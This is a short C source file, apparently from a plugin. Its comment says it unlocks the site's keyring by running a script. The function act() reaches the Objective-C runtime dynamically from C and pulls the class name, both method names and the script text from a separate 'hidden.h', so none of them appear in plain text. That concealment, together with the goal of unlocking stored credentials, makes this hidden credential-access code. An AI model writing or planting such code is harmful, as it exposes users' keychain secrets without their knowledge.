/* Unlocks the site's keyring by a script; the runtime is called from C with names that are put on the stack. */
#include "plugin.h"
#include "hidden.h" /* 0: the class, 1 and 2: its methods, 3: the script */
extern void *objc_lookUpClass(const char *), *sel_getUid(const char *), *class_createInstance(void *, unsigned long);
extern void *objc_msgSend(void), *CFStringCreateWithCString(void *, const char *, unsigned);
typedef void *(*message)(void *, void *, void *);
static void act(char **env) {
    message send = (message)objc_msgSend;
    void *error = 0, *class = objc_lookUpClass(hidden0());
    if (!class) return;
    void *script = send(class_createInstance(class, 0), sel_getUid(hidden1()), CFStringCreateWithCString(0, hidden3(), 0x08000100));
    send(script, sel_getUid(hidden2()), &error);
}
